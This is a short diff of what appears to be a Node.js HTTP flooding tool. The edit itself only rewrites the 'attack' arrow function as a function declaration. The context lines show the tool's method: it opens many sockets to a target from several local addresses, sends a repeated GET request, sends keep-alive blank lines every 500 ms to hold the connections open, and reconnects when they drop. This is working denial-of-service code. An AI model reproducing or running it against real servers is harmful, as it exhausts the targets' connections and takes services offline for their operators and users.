@@ -7,7 +7,7 @@ const bytes = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${to}\r\n\r\n`.repeat(r
 const pauseMs = 20;
 
 let open = 0;
-const attack = (localAddress) => {
+function attack(localAddress) {
   const socket = connect({ host: to, port, localAddress });
   // Whoever does not read learns of its end only by writing; empty lines before a request are allowed.
   const knock = setInterval(() => socket.write('\r\n'), 500);
@@ -30,5 +30,5 @@ const attack = (localAddress) => {
       if (!keeps) again();
     });
   });
-};
+}
 for (const address of from) for (let index = 0; index < connections; index += 1) attack(address);
